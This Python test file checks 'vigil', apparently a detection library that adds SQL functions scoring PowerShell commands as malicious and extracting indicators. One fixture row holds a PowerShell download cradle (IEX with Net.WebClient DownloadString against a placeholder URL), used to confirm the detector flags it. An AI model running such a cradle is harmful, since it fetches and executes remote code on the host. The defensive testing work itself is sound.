"""`vigil.connect`: two lines from a notebook to SQL with vigil's functions."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import vigil
from vigil.errors import DetectionNotFound


def test_connect_reads_the_profile_and_registers_the_functions(
    tmp_path: Path, publish_model: Callable[..., Any]
) -> None:
    publish_model()  # into tmp_path / "models"
    (tmp_path / "vigil.toml").write_text(
        '[profiles.dev]\nengine = "duckdb"\ndatabase = "wh.duckdb"\nstore = "models"\n'
    )
    con = vigil.connect("dev")
    con.sql(
        "create table events as select * from (values "
        "('IEX (New-Object Net.WebClient).DownloadString(''http://x'')'), "
        "('Get-Date'), (NULL)) t(cmd)"
    )
    rows = con.sql(
        "select cmd, vigil_powershell_score(cmd) s, vigil_powershell_iocs(cmd) i from events"
    ).fetchall()
    assert rows[0][1] > 0.5 > rows[1][1]
    assert "downloadstring" in rows[0][2]
    assert rows[2][1:] == (None, None)
    table = con.sql("select vigil_powershell_score(cmd) s from events").to_arrow_table()
    assert table.num_rows == 3
    con.close()
    assert (tmp_path / "wh.duckdb").exists()


def test_connect_without_config_uses_local_defaults(tmp_path: Path) -> None:
    with vigil.connect() as con:
        assert con.profile.database == ".vigil/vigil.duckdb"
        assert "vigil_powershell_score" in con.functions
    assert (tmp_path / ".vigil" / "vigil.duckdb").exists()


def test_unknown_detection_suggests_the_close_name() -> None:
    with (
        vigil.connect() as con,
        pytest.raises(DetectionNotFound, match="did you mean 'powershell'"),
    ):
        con.detection("powershel")
